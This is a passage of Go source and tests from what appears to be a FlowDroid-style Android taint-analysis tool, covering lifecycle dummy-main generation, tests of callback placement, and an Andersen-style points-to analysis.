	g.mb.VCall(a, "onCreate")
}

// emitStaticInitializers invokes every app class's clinit at program
// start, mirroring Soot's (unsound in general) placement.
func (g *generator) emitStaticInitializers() {
	for _, c := range g.app.Program.Classes() {
		if c.Synthetic || c.Interface {
			continue
		}
		if m := c.Method("clinit", 0); m != nil && !m.Abstract() && m.Static {
			g.mb.SCall(c.Name, "clinit")
		}
	}
}

func (g *generator) emitComponent(comp *apk.Component) {
	switch comp.Kind {
	case framework.Activity:
		g.emitActivity(comp)
	case framework.Service:
		g.emitService(comp)
	case framework.Receiver:
		g.emitReceiver(comp)
	case framework.Provider:
		g.emitProvider(comp)
	}
}

// newLocal allocates a fresh typed local holding a new instance of class.
func (g *generator) newLocal(stem, class string) *ir.Local {
	g.n++
	l := g.mb.Local(fmt.Sprintf("%s%d", stem, g.n))
	l.Type = ir.Ref(class)
	g.mb.New(l, class)
	return l
}

// emitActivity generates the activity lifecycle automaton of Figure 1.
func (g *generator) emitActivity(comp *apk.Component) {
	mb := g.mb
	a := g.newLocal("a", comp.Class)
	bundle := g.newLocal("b", "android.os.Bundle")

	switch g.opts.effectiveMode() {
	case CreateOnly:
		mb.VCall(a, "onCreate", bundle)
		g.emitCallbacksFlat(comp, a)
		return
	case FlatLifecycle:
		mb.VCall(a, "onCreate", bundle)
		mb.VCall(a, "onStart")
		mb.VCall(a, "onRestoreInstanceState", bundle)
		mb.VCall(a, "onResume")
		g.emitCallbacksFlat(comp, a)
		mb.VCall(a, "onPause")
		mb.VCall(a, "onSaveInstanceState", bundle)
		mb.VCall(a, "onStop")
		mb.VCall(a, "onRestart")
		mb.VCall(a, "onDestroy")
		return
	}

	lStart := g.label("start")
	lResume := g.label("resume")
	lRunning := g.label("running")
	lPause := g.label("pause")
	lStopCheck := g.label("stopcheck")
	lRestart := g.label("restart")
	lEnd := g.label("endcomp")

	mb.VCall(a, "onCreate", bundle)
	mb.Label(lStart).VCall(a, "onStart")
	mb.If(lResume)
	mb.VCall(a, "onRestoreInstanceState", bundle)
	mb.Label(lResume).VCall(a, "onResume")

	// Running phase: any subset of callbacks, any order, any number of
	// times.
	mb.Label(lRunning).If(lPause)
	g.emitCallbackChain(comp, a)
	mb.Goto(lRunning)

	mb.Label(lPause).VCall(a, "onPause")
	mb.If(lStopCheck)
	mb.VCall(a, "onSaveInstanceState", bundle)
	mb.Label(lStopCheck).If(lResume) // paused activity may resume
	mb.VCall(a, "onStop")
	mb.If(lRestart)
	mb.VCall(a, "onDestroy")
	mb.Goto(lEnd)
	mb.Label(lRestart).VCall(a, "onRestart")
	mb.Goto(lStart)
	mb.Label(lEnd).Nop()
}

func (g *generator) emitService(comp *apk.Component) {
	mb := g.mb
	s := g.newLocal("s", comp.Class)
	switch g.opts.effectiveMode() {
	case CreateOnly:
		mb.VCall(s, "onCreate")
		g.emitCallbacksFlat(comp, s)
		return
	case FlatLifecycle:
		mb.VCall(s, "onCreate")
		fi := g.newLocal("i", "android.content.Intent")
		mb.VCall(s, "onStartCommand", fi)
		mb.VCall(s, "onBind", fi)
		g.emitCallbacksFlat(comp, s)
		mb.VCall(s, "onUnbind", fi)
		mb.VCall(s, "onDestroy")
		return
	}
	loop := g.label("svcloop")
	bind := g.label("svcbind")
	endl := g.label("svcend")

	mb.VCall(s, "onCreate")
	mb.Label(loop).If(endl)
	mb.If(bind)
	intent := g.newLocal("i", "android.content.Intent")
	mb.VCall(s, "onStartCommand", intent)
	g.emitCallbackChain(comp, s)
	mb.Goto(loop)
	mb.Label(bind).Nop()
	intent2 := g.newLocal("i", "android.content.Intent")
	mb.VCall(s, "onBind", intent2)
	mb.VCall(s, "onUnbind", intent2)
	mb.Goto(loop)
	mb.Label(endl).VCall(s, "onDestroy")
}

func (g *generator) emitReceiver(comp *apk.Component) {
	mb := g.mb
	r := g.newLocal("r", comp.Class)
	ctx := g.newLocal("c", "android.content.Context")
	intent := g.newLocal("i", "android.content.Intent")
	if g.opts.effectiveMode() != FullLifecycle {
		mb.VCall(r, "onReceive", ctx, intent)
		g.emitCallbacksFlat(comp, r)
		return
	}
	loop := g.label("rcvloop")
	endl := g.label("rcvend")
	mb.Label(loop).If(endl)
	mb.VCall(r, "onReceive", ctx, intent)
	g.emitCallbackChain(comp, r)
	mb.Goto(loop)
	mb.Label(endl).Nop()
}

func (g *generator) emitProvider(comp *apk.Component) {
	mb := g.mb
	p := g.newLocal("p", comp.Class)
	mb.VCall(p, "onCreate")
	if g.opts.effectiveMode() != FullLifecycle {
		g.emitCallbacksFlat(comp, p)
		return
	}
	loop := g.label("prvloop")
	endl := g.label("prvend")
	uri := g.newLocal("u", "android.net.Uri")
	vals := g.newLocal("v", "android.content.ContentValues")
	g.n++
	sel := mb.Local(fmt.Sprintf("sel%d", g.n))
	sel.Type = ir.Ref("java.lang.String")
	mb.Assign(sel, ir.StringOf(""))
	mb.Label(loop).If(endl)
	mb.VCall(p, "query", uri, sel)
	mb.VCall(p, "insert", uri, vals)
	mb.VCall(p, "update", uri, vals)
	mb.VCall(p, "delete", uri, sel)
	g.emitCallbackChain(comp, p)
	mb.Goto(loop)
	mb.Label(endl).Nop()
}

// emitCallbackChain emits the component's callbacks as a chain of
// optionally executed invocations. Listener objects are allocated once per
// component so that taints stored in their fields persist across callback
// invocations.
func (g *generator) emitCallbackChain(comp *apk.Component, recv *ir.Local) {
	if !g.opts.InvokeCallbacks {
		return
	}
	listeners := make(map[string]*ir.Local)
	for _, cb := range g.callbacksOf(comp) {
		skip := g.label("cbskip")
		g.mb.If(skip)
		g.emitCallbackInvoke(comp, cb, recv, listeners)
		g.mb.Label(skip).Nop()
	}
}

// emitCallbacksFlat invokes all callbacks unconditionally, twice in
// sequence: coarse tools analyze callbacks without ordering assumptions,
// and the second round lets a value stored by one callback reach reads in
// any other without modeling arbitrary interleavings.
func (g *generator) emitCallbacksFlat(comp *apk.Component, recv *ir.Local) {
	if !g.opts.InvokeCallbacks {
		return
	}
	listeners := make(map[string]*ir.Local)
	for round := 0; round < 2; round++ {
		for _, cb := range g.callbacksOf(comp) {
			g.emitCallbackInvoke(comp, cb, recv, listeners)
		}
	}
}

func (g *generator) emitCallbackInvoke(comp *apk.Component, cb *ir.Method, recv *ir.Local, listeners map[string]*ir.Local) {
	mb := g.mb
	target := recv
	if cb.Class.Name != comp.Class {
		l, ok := listeners[cb.Class.Name]
		if !ok {
			l = g.newLocal("l", cb.Class.Name)
			listeners[cb.Class.Name] = l
		}
		target = l
	}
	args := make([]ir.Value, len(cb.Params))
	for i, p := range cb.Params {
		args[i] = g.argFor(p.Type)
	}
	mb.VCall(target, cb.Name, args...)
}

// argFor fabricates an argument value of the given type: fresh framework
// objects for reference types, constants for primitives and strings.
func (g *generator) argFor(t ir.Type) ir.Value {
	switch {
	case t.IsRef() && t.Name == "java.lang.String":
		return ir.StringOf("")
	case t.IsRef():
		cls := g.app.Program.Class(t.Name)
		if cls != nil && !cls.Interface {
			return g.newLocal("arg", t.Name)
		}
		return ir.NullOf()
	case t.IsPrim():
		return ir.IntOf(0)
	default:
		return ir.NullOf()
	}
}
