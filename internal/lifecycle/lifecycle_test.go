package lifecycle

import (
	"context"
	"strings"
	"testing"

	"flowdroid/internal/apk"
	"flowdroid/internal/callbacks"
	"flowdroid/internal/cfg"
	"flowdroid/internal/ir"
	"flowdroid/internal/pta"
	"flowdroid/internal/testapps"
)

func genLeakage(t *testing.T, opts Options) (*apk.App, *ir.Method) {
	t.Helper()
	app, err := apk.LoadFiles(testapps.LeakageApp)
	if err != nil {
		t.Fatal(err)
	}
	cbs := callbacks.Discover(context.Background(), app)
	main, err := Generate(app, cbs, opts)
	if err != nil {
		t.Fatal(err)
	}
	return app, main
}

// callNames extracts the invoked method names from a dummy main body in
// order.
func callNames(m *ir.Method) []string {
	var out []string
	for _, s := range m.Body() {
		if c := ir.CallOf(s); c != nil {
			out = append(out, c.Ref.Name)
		}
	}
	return out
}

func TestDummyMainLifecycleOrder(t *testing.T) {
	_, main := genLeakage(t, DefaultOptions())
	names := callNames(main)
	joined := strings.Join(names, " ")
	// The enabled activity's full lifecycle appears in canonical order.
	for _, want := range []string{
		"onCreate onStart", "onResume", "onPause", "onStop", "onRestart", "onDestroy",
	} {
		if !strings.Contains(joined, want) {
			t.Errorf("lifecycle call %q missing from %q", want, joined)
		}
	}
	// The XML button callback is invoked.
	if !strings.Contains(joined, "sendMessage") {
		t.Errorf("sendMessage callback not invoked: %q", joined)
	}
	// The disabled activity's lifecycle must not be modeled.
	for _, s := range main.Body() {
		if c := ir.CallOf(s); c != nil && c.Base != nil &&
			c.Base.Type.Name == "com.example.leakage.DisabledActivity" {
			t.Error("disabled activity appears in dummy main")
		}
		if a, ok := s.(*ir.AssignStmt); ok {
			if n, ok := a.RHS.(*ir.New); ok && n.Type.Name == "com.example.leakage.DisabledActivity" {
				t.Error("disabled activity allocated in dummy main")
			}
		}
	}
}

func TestDummyMainCallbackPlacement(t *testing.T) {
	// The callback must be invocable between onResume and onPause: on the
	// CFG there must be a path onResume -> sendMessage -> onPause, and
	// sendMessage must be inside the running-phase loop (reachable from
	// itself).
	_, main := genLeakage(t, DefaultOptions())
	c := cfg.New(main)

	find := func(name string) ir.Stmt {
		for _, s := range main.Body() {
			if call := ir.CallOf(s); call != nil && call.Ref.Name == name {
				return s
			}
		}
		t.Fatalf("call %s not found", name)
		return nil
	}
	reaches := func(from, to ir.Stmt) bool {
		seen := make(map[int]bool)
		stack := []ir.Stmt{from}
		for len(stack) > 0 {
			s := stack[len(stack)-1]
			stack = stack[:len(stack)-1]
			for _, nxt := range c.Succs(s) {
				if nxt == to {
					return true
				}
				if !seen[nxt.Index()] {
					seen[nxt.Index()] = true
					stack = append(stack, nxt)
				}
			}
		}
		return false
	}
	onResume := find("onResume")
	onPause := find("onPause")
	send := find("sendMessage")
	if !reaches(onResume, send) {
		t.Error("no path onResume -> sendMessage")
	}
	if !reaches(send, onPause) {
		t.Error("no path sendMessage -> onPause")
	}
	if !reaches(send, send) {
		t.Error("callback should be repeatable (loop)")
	}
	if !reaches(onPause, onResume) {
		t.Error("paused activity should be able to resume")
	}
	// onDestroy must not loop back into the same activity instance's
	// onResume... but a fresh lifecycle may start (component repetition),
	// so we only require that onCreate is reachable again from onDestroy.
	onCreate := find("onCreate")
	onDestroy := find("onDestroy")
	if !reaches(onDestroy, onCreate) {
		t.Error("component repetition: onDestroy should reach a fresh onCreate")
	}
}

func TestDummyMainIsAnalyzable(t *testing.T) {
	app, main := genLeakage(t, DefaultOptions())
	// The generated method must produce a usable call graph: sendMessage
	// and the lifecycle overrides of the app must be reachable.
	res := pta.Build(context.Background(), app.Program, main)
	var haveSend, haveRestart bool
	for _, m := range res.Graph.Reachable() {
		if m.Class.Name == "com.example.leakage.LeakageApp" {
			switch m.Name {
			case "sendMessage":
				haveSend = true
			case "onRestart":
				haveRestart = true
			}
		}
	}
	if !haveSend || !haveRestart {
		t.Errorf("reachable: sendMessage=%v onRestart=%v", haveSend, haveRestart)
	}
}

func TestLifecycleUnawareMode(t *testing.T) {
	opts := Options{ModelLifecycle: false, InvokeCallbacks: true}
	_, main := genLeakage(t, opts)
	joined := strings.Join(callNames(main), " ")
	if strings.Contains(joined, "onRestart") || strings.Contains(joined, "onPause") {
		t.Errorf("lifecycle-unaware mode should only call onCreate: %q", joined)
	}
	if !strings.Contains(joined, "sendMessage") {
		t.Errorf("callbacks should still be invoked: %q", joined)
	}
}

func TestNoCallbacksMode(t *testing.T) {
	opts := Options{ModelLifecycle: true, InvokeCallbacks: false}
	_, main := genLeakage(t, opts)
	joined := strings.Join(callNames(main), " ")
	if strings.Contains(joined, "sendMessage") {
		t.Errorf("callbacks must not be invoked in this mode: %q", joined)
	}
}

func TestGenerateTwiceFails(t *testing.T) {
	app, err := apk.LoadFiles(testapps.LeakageApp)
	if err != nil {
		t.Fatal(err)
	}
	cbs := callbacks.Discover(context.Background(), app)
	if _, err := Generate(app, cbs, DefaultOptions()); err != nil {
		t.Fatal(err)
	}
	if _, err := Generate(app, cbs, DefaultOptions()); err == nil {
		t.Error("second Generate should fail")
	}
}

func TestServiceAndReceiverLifecycles(t *testing.T) {
	app, err := apk.LoadFiles(map[string]string{
		"AndroidManifest.xml": `<manifest package="com.x"><application>
			<service android:name=".Svc"/>
			<receiver android:name=".Rcv"/>
			<provider android:name=".Prv"/>
		</application></manifest>`,
		"c.ir": `
class com.x.Svc extends android.app.Service {
  method onCreate(): void {
    return
  }
  method onStartCommand(i: android.content.Intent): void {
    return
  }
}
class com.x.Rcv extends android.content.BroadcastReceiver {
  method onReceive(c: android.content.Context, i: android.content.Intent): void {
    return
  }
}
class com.x.Prv extends android.content.ContentProvider {
  method query(u: android.net.Uri, sel: java.lang.String): java.lang.Object {
    r = new java.lang.Object
    return r
  }
}
`,
	})
	if err != nil {
		t.Fatal(err)
	}
	main, err := Generate(app, callbacks.Discover(context.Background(), app), DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	joined := strings.Join(callNames(main), " ")
	for _, want := range []string{"onStartCommand", "onBind", "onUnbind", "onReceive",
		"query", "insert", "update", "delete"} {
		if !strings.Contains(joined, want) {
			t.Errorf("missing %s in dummy main: %q", want, joined)
		}
	}
}

func TestFlatLifecycleMode(t *testing.T) {
	_, main := genLeakage(t, FlatOptions())
	names := callNames(main)
	// Canonical order, one pass: onCreate before onStart before onResume
	// before onPause before onStop before onRestart before onDestroy.
	idx := map[string]int{}
	for i, n := range names {
		if _, seen := idx[n]; !seen {
			idx[n] = i
		}
	}
	order := []string{"onCreate", "onStart", "onResume", "sendMessage",
		"onPause", "onStop", "onRestart", "onDestroy"}
	for i := 1; i < len(order); i++ {
		a, b := order[i-1], order[i]
		ia, oka := idx[a]
		ib, okb := idx[b]
		if !oka || !okb {
			t.Fatalf("missing %s or %s in flat dummy main: %v", a, b, names)
		}
		if ia >= ib {
			t.Errorf("flat order broken: %s (%d) should precede %s (%d)", a, ia, b, ib)
		}
	}
	// The component block itself is branch-free (single pass); only the
	// outer component-selection loop branches.
	var first, last int
	for i, s := range main.Body() {
		if c := ir.CallOf(s); c != nil {
			if c.Ref.Name == "onCreate" {
				first = i
			}
			if c.Ref.Name == "onDestroy" {
				last = i
			}
		}
	}
	for i := first; i <= last; i++ {
		if _, ok := main.Body()[i].(*ir.IfStmt); ok {
			t.Error("flat component block must not contain opaque branches")
		}
	}
	// Callbacks are emitted twice (order-insensitive approximation).
	count := 0
	for _, n := range names {
		if n == "sendMessage" {
			count++
		}
	}
	if count != 2 {
		t.Errorf("flat mode should invoke each callback twice, got %d", count)
	}
}

func TestXMLCallbacksOnlyMode(t *testing.T) {
	app, err := apk.LoadFiles(testapps.LocationApp)
	if err != nil {
		t.Fatal(err)
	}
	cbs := callbacks.Discover(context.Background(), app)
	opts := DefaultOptions()
	opts.XMLCallbacksOnly = true
	main, err := Generate(app, cbs, opts)
	if err != nil {
		t.Fatal(err)
	}
	joined := strings.Join(callNames(main), " ")
	if strings.Contains(joined, "onLocationChanged") {
		t.Error("imperatively registered callback invoked in XML-only mode")
	}
	if !strings.Contains(joined, "leakIt") {
		t.Error("XML-declared callback missing")
	}
}

func TestIncludeDisabledMode(t *testing.T) {
	app, err := apk.LoadFiles(testapps.LeakageApp)
	if err != nil {
		t.Fatal(err)
	}
	cbs := callbacks.Discover(context.Background(), app)
	opts := DefaultOptions()
	opts.IncludeDisabled = true
	main, err := Generate(app, cbs, opts)
	if err != nil {
		t.Fatal(err)
	}
	seen := false
	for _, s := range main.Body() {
		if a, ok := s.(*ir.AssignStmt); ok {
			if n, ok := a.RHS.(*ir.New); ok && n.Type.Name == "com.example.leakage.DisabledActivity" {
				seen = true
			}
		}
	}
	if !seen {
		t.Error("IncludeDisabled should model the disabled activity")
	}
}

// TestApplicationClassModeled: a custom Application subclass declared via
// <application android:name> has its onCreate invoked before any
// component's lifecycle, as Android guarantees.
func TestApplicationClassModeled(t *testing.T) {
	app, err := apk.LoadFiles(map[string]string{
		"AndroidManifest.xml": `<manifest package="com.x">
			<application android:name=".MyApp">
				<activity android:name=".Main"/>
			</application></manifest>`,
		"c.ir": `
class com.x.MyApp extends android.app.Application {
  static field boot: java.lang.String
  method onCreate(): void {
    com.x.MyApp.boot = "ready"
  }
}
class com.x.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    return
  }
}
`,
	})
	if err != nil {
		t.Fatal(err)
	}
	if app.Manifest.Application != "com.x.MyApp" {
		t.Fatalf("manifest application = %q", app.Manifest.Application)
	}
	main, err := Generate(app, callbacks.Discover(context.Background(), app), DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	// The Application's onCreate must appear before the activity's.
	var appCreate, actCreate = -1, -1
	for i, s := range main.Body() {
		c := ir.CallOf(s)
		if c == nil || c.Ref.Name != "onCreate" || c.Base == nil {
			continue
		}
		switch c.Base.Type.Name {
		case "com.x.MyApp":
			appCreate = i
		case "com.x.Main":
			if actCreate == -1 {
				actCreate = i
			}
		}
	}
	if appCreate == -1 {
		t.Fatal("Application.onCreate not invoked")
	}
	if actCreate != -1 && appCreate > actCreate {
		t.Errorf("Application.onCreate at %d should precede the activity's at %d", appCreate, actCreate)
	}
}
