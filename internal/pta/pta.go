// Package pta implements a flow-insensitive, subset-based (Andersen-style)
// points-to analysis with on-the-fly call-graph construction. It is the
// stand-in for Soot's Spark framework: its job is to resolve virtual
// dispatch precisely enough for the interprocedural CFG the taint analysis
// runs on, distinguishing objects by allocation site (object sensitivity
// at the call-graph level).
//
// Abstract objects are allocation sites. Pointer nodes are locals, static
// fields, per-site instance fields, and a per-site array-contents cell.
// Virtual call sites are resolved against the runtime types flowing into
// the receiver; sites whose receiver set stays empty (e.g. values produced
// by library stubs) fall back to declared-type CHA so that no call edge is
// lost.
package pta

import (
	"context"
	"sort"

	"flowdroid/internal/callgraph"
	"flowdroid/internal/metrics"
	"flowdroid/internal/ir"
)

// Obj is an abstract object: an allocation site and its class.
type Obj struct {
	Site  ir.Stmt
	Class string
	// Array is set for array allocations.
	Array bool
}

// node identifies a pointer node in the constraint graph.
type node struct {
	// kind 0: local, 1: static field, 2: obj field, 3: obj array cell
	kind  int
	local *ir.Local
	field *ir.Field
	obj   int // object index for kinds 2 and 3
}

// Result holds the computed points-to sets and the call graph.
type Result struct {
	Graph *callgraph.Graph

	// Truncated is set when the context expired before the constraint
	// system reached its fixed point; the call graph is then a sound
	// partial view (edges discovered so far) but may miss targets.
	Truncated bool
	// Propagations counts points-to set insertions, the solver's unit of
	// work, for the pipeline's stage counters.
	Propagations int

	a *analysis
}

// PointsTo returns the abstract objects the local may refer to, in
// deterministic order.
func (r *Result) PointsTo(l *ir.Local) []Obj {
	ids := r.a.pts[node{kind: 0, local: l}]
	out := make([]Obj, 0, len(ids))
	for id := range ids {
		out = append(out, r.a.objs[id])
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Class != out[j].Class {
			return out[i].Class < out[j].Class
		}
		return stmtOrder(out[i].Site) < stmtOrder(out[j].Site)
	})
	return out
}

func stmtOrder(s ir.Stmt) string {
	if s == nil {
		return ""
	}
	return s.Method().String() + ":" + itoa(s.Index())
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b [12]byte
	i := len(b)
	for n > 0 {
		i--
		b[i] = byte('0' + n%10)
		n /= 10
	}
	return string(b[i:])
}

type objset map[int]bool

// loadC is a pending load constraint "dst = base.field" attached to base.
type loadC struct {
	dst   node
	field *ir.Field // nil for array loads
}

// storeC is a pending store constraint "base.field = src" attached to base.
type storeC struct {
	src   node
	field *ir.Field // nil for array stores
}

// callC is a virtual call whose dispatch depends on the receiver's types.
type callC struct {
	site ir.Stmt
	expr *ir.InvokeExpr
}

type analysis struct {
	ctx     context.Context
	prog    ir.Hierarchy
	res     *callgraph.Resolver
	graph   *callgraph.Graph
	objs    []Obj
	objIDs  map[ir.Stmt]int
	pts     map[node]objset
	succs   map[node][]node
	loads   map[node][]loadC
	stores  map[node][]storeC
	calls   map[node][]callC
	work    []node
	inWork  map[node]bool
	visited map[*ir.Method]bool
	// bound remembers (site, target) pairs already wired up.
	bound map[edgeKey]bool
	// extra holds pre-resolved call edges (reflective bridges) bound at
	// their sites in addition to the static/dispatched targets.
	extra map[ir.Stmt][]*ir.Method

	propagations int
	truncated    bool
}

type edgeKey struct {
	site   ir.Stmt
	target *ir.Method
}

// Build runs the analysis from the given entry methods and returns the
// points-to result with its on-the-fly call graph. When the context is
// cancelled mid-solve the result is marked Truncated and carries the
// partial call graph computed so far. Passing a cached hierarchy
// (scene.Scene) reuses its shared resolver; passing *ir.Program builds a
// private one.
func Build(ctx context.Context, prog ir.Hierarchy, entries ...*ir.Method) *Result {
	return BuildWithExtra(ctx, prog, nil, entries...)
}

// BuildWithExtra is Build with additional resolved call edges — site
// statement to target method — wired into the constraint system. The
// constant-propagation pass supplies resolved reflective sites this
// way: the site's arguments flow positionally into the bridge target's
// parameters and the bridge's return value flows back to the call
// result, exactly like a statically resolved callee.
func BuildWithExtra(ctx context.Context, prog ir.Hierarchy, extra map[ir.Stmt][]*ir.Method, entries ...*ir.Method) *Result {
	a := &analysis{
		ctx:     ctx,
		extra:   extra,
		prog:    prog,
		res:     callgraph.ResolverFor(prog),
		graph:   callgraph.NewGraph(entries...),
		objIDs:  make(map[ir.Stmt]int),
		pts:     make(map[node]objset),
		succs:   make(map[node][]node),
		loads:   make(map[node][]loadC),
		stores:  make(map[node][]storeC),
		calls:   make(map[node][]callC),
		inWork:  make(map[node]bool),
		visited: make(map[*ir.Method]bool),
		bound:   make(map[edgeKey]bool),
	}
	for _, e := range entries {
		a.visitMethod(e)
	}
	a.solve()
	// Fall back to CHA for virtual sites whose receiver never received an
	// allocation site (library stub results, unmodeled values). The
	// fallback can make new methods reachable, so iterate to a fixed
	// point.
	rounds := 1
	for !a.truncated && a.applyFallback() {
		a.solve()
		rounds++
	}
	if rec := metrics.From(ctx); rec != nil {
		rec.Counter("pta.propagations", metrics.Deterministic).Add(int64(a.propagations))
		rec.Counter("pta.rounds", metrics.Deterministic).Add(int64(rounds))
		rec.Counter("pta.constraints", metrics.Deterministic).Add(int64(a.constraintCount()))
	}
	return &Result{Graph: a.graph, Truncated: a.truncated, Propagations: a.propagations, a: a}
}

// constraintCount totals the copy, load, store and call constraints the
// solve accumulated — the size of the constraint system, not the effort
// spent on it (that is propagations).
func (a *analysis) constraintCount() int {
	n := 0
	for _, s := range a.succs {
		n += len(s)
	}
	for _, s := range a.loads {
		n += len(s)
	}
	for _, s := range a.stores {
		n += len(s)
	}
	for _, s := range a.calls {
		n += len(s)
	}
	return n
}

func localNode(l *ir.Local) node  { return node{kind: 0, local: l} }
func staticNode(f *ir.Field) node { return node{kind: 1, field: f} }
func fieldNode(o int, f *ir.Field) node {
	return node{kind: 2, field: f, obj: o}
}
func arrayNode(o int) node { return node{kind: 3, obj: o} }

func (a *analysis) enqueue(n node) {
	if !a.inWork[n] {
		a.inWork[n] = true
		a.work = append(a.work, n)
	}
}

func (a *analysis) addObj(n node, id int) {
	s := a.pts[n]
	if s == nil {
		s = make(objset)
		a.pts[n] = s
	}
	if !s[id] {
		s[id] = true
		a.propagations++
		a.enqueue(n)
	}
}

func (a *analysis) addEdge(from, to node) {
	for _, s := range a.succs[from] {
		if s == to {
			return
		}
	}
	a.succs[from] = append(a.succs[from], to)
	if len(a.pts[from]) > 0 {
		a.enqueue(from)
	}
}

// visitMethod collects the constraints of m's body (once).
func (a *analysis) visitMethod(m *ir.Method) {
	if a.visited[m] || m.Abstract() {
		return
	}
	a.visited[m] = true
	for _, s := range m.Body() {
		switch st := s.(type) {
		case *ir.AssignStmt:
			a.visitAssign(st)
		case *ir.InvokeStmt:
			a.visitCall(st, st.Call, nil)
		}
	}
}

func (a *analysis) visitAssign(s *ir.AssignStmt) {
	// Call with result.
	if call, ok := s.RHS.(*ir.InvokeExpr); ok {
		result, _ := s.LHS.(*ir.Local)
		a.visitCall(s, call, result)
		return
	}
	switch lhs := s.LHS.(type) {
	case *ir.Local:
		dst := localNode(lhs)
		switch rhs := s.RHS.(type) {
		case *ir.New:
			a.addObj(dst, a.objFor(s, rhs.Type.Name, false))
		case *ir.NewArray:
			a.addObj(dst, a.objFor(s, rhs.Elem.String()+"[]", true))
		case *ir.Local:
			a.addEdge(localNode(rhs), dst)
		case *ir.Cast:
			if x, ok := rhs.X.(*ir.Local); ok {
				a.addEdge(localNode(x), dst)
			}
		case *ir.FieldRef:
			base := localNode(rhs.Base)
			a.loads[base] = append(a.loads[base], loadC{dst: dst, field: rhs.Field})
			a.enqueue(base)
		case *ir.StaticFieldRef:
			a.addEdge(staticNode(rhs.Field), dst)
		case *ir.ArrayRef:
			base := localNode(rhs.Base)
			a.loads[base] = append(a.loads[base], loadC{dst: dst})
			a.enqueue(base)
		}
	case *ir.FieldRef:
		if src, ok := s.RHS.(*ir.Local); ok {
			base := localNode(lhs.Base)
			a.stores[base] = append(a.stores[base], storeC{src: localNode(src), field: lhs.Field})
			a.enqueue(base)
		}
	case *ir.StaticFieldRef:
		if src, ok := s.RHS.(*ir.Local); ok {
			a.addEdge(localNode(src), staticNode(lhs.Field))
		}
	case *ir.ArrayRef:
		if src, ok := s.RHS.(*ir.Local); ok {
			base := localNode(lhs.Base)
			a.stores[base] = append(a.stores[base], storeC{src: localNode(src)})
			a.enqueue(base)
		}
	}
}

func (a *analysis) objFor(site ir.Stmt, class string, isArray bool) int {
	if id, ok := a.objIDs[site]; ok {
		return id
	}
	id := len(a.objs)
	a.objs = append(a.objs, Obj{Site: site, Class: class, Array: isArray})
	a.objIDs[site] = id
	return id
}

func (a *analysis) visitCall(site ir.Stmt, call *ir.InvokeExpr, result *ir.Local) {
	for _, t := range a.extra[site] {
		a.bindCall(site, call, t, result)
	}
	if ts := a.res.StaticTargets(call); ts != nil {
		for _, t := range ts {
			a.bindCall(site, call, t, result)
		}
		return
	}
	if call.Kind != ir.VirtualInvoke || call.Base == nil {
		return
	}
	recv := localNode(call.Base)
	a.calls[recv] = append(a.calls[recv], callC{site: site, expr: call})
	a.enqueue(recv)
}

// bindCall wires argument, receiver-independent parameter and return
// constraints for one (site, target) pair and records the call edge.
func (a *analysis) bindCall(site ir.Stmt, call *ir.InvokeExpr, target *ir.Method, result *ir.Local) {
	k := edgeKey{site, target}
	a.graph.AddEdge(site, target)
	if a.bound[k] {
		return
	}
	a.bound[k] = true
	a.visitMethod(target)
	if !target.Abstract() {
		for i, p := range target.Params {
			if i >= len(call.Args) {
				break
			}
			if arg, ok := call.Args[i].(*ir.Local); ok {
				a.addEdge(localNode(arg), localNode(p))
			}
		}
		if result != nil {
			for _, ex := range target.ExitStmts() {
				ret := ex.(*ir.ReturnStmt)
				if rv, ok := ret.Value.(*ir.Local); ok {
					a.addEdge(localNode(rv), localNode(result))
				}
			}
		}
		// Special invokes (constructors) pass the receiver unfiltered.
		if call.Kind == ir.SpecialInvoke && call.Base != nil && target.This != nil {
			a.addEdge(localNode(call.Base), localNode(target.This))
		}
	}
}

// ctxCheckEvery is how many worklist pops happen between context polls.
const ctxCheckEvery = 256

func (a *analysis) solve() {
	steps := 0
	for len(a.work) > 0 {
		steps++
		if steps%ctxCheckEvery == 0 && a.ctx.Err() != nil {
			a.truncated = true
			return
		}
		n := a.work[len(a.work)-1]
		a.work = a.work[:len(a.work)-1]
		a.inWork[n] = false
		set := a.pts[n]

		// Resolve field loads and stores through every object in the set.
		for _, lc := range a.loads[n] {
			for id := range set {
				var src node
				if lc.field != nil {
					src = fieldNode(id, lc.field)
				} else {
					src = arrayNode(id)
				}
				a.addEdge(src, lc.dst)
			}
		}
		for _, sc := range a.stores[n] {
			for id := range set {
				var dst node
				if sc.field != nil {
					dst = fieldNode(id, sc.field)
				} else {
					dst = arrayNode(id)
				}
				a.addEdge(sc.src, dst)
			}
		}
		// Dispatch virtual calls on the receiver's runtime types.
		for _, cc := range a.calls[n] {
			for id := range set {
				t := a.res.DispatchOn(a.objs[id].Class, cc.expr)
				if t == nil {
					continue
				}
				result := ir.CallResult(cc.site)
				a.bindCall(cc.site, cc.expr, t, result)
				if t.This != nil {
					a.addObj(localNode(t.This), id)
				}
			}
		}
		// Propagate along subset edges.
		for _, succ := range a.succs[n] {
			for id := range set {
				a.addObj(succ, id)
			}
		}
	}
}

// applyFallback adds CHA edges for virtual call sites still unresolved
// after solving (receiver points-to set empty). It reports whether any new
// binding happened.
func (a *analysis) applyFallback() bool {
	changed := false
	// Snapshot: visiting methods during iteration appends constraints.
	methods := make([]*ir.Method, 0, len(a.visited))
	for m := range a.visited {
		methods = append(methods, m)
	}
	sort.Slice(methods, func(i, j int) bool { return methods[i].String() < methods[j].String() })
	for _, m := range methods {
		for _, s := range m.Body() {
			call := ir.CallOf(s)
			if call == nil || call.Kind != ir.VirtualInvoke || call.Base == nil {
				continue
			}
			if len(a.pts[localNode(call.Base)]) > 0 {
				continue
			}
			for _, t := range a.res.VirtualTargets(call) {
				k := edgeKey{s, t}
				if !a.bound[k] {
					a.bindCall(s, call, t, ir.CallResult(s))
					changed = true
				}
			}
		}
	}
	return changed
}
