package pta

import (
	"context"
	"testing"

	"flowdroid/internal/callgraph"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
)

const dispatchSrc = `
class A {
  method who(): java.lang.String {
    r = "A"
    return r
  }
}
class B extends A {
  method who(): java.lang.String {
    r = "B"
    return r
  }
}
class C extends A {
  method who(): java.lang.String {
    r = "C"
    return r
  }
}
class Main {
  static method main(): void {
    local x: A
    x = new B
    s = x.who()
    return
  }
  static method poly(): void {
    local x: A
    if * goto other
    x = new B
    goto call
  other:
    x = new C
  call:
    s = x.who()
    return
  }
}
`

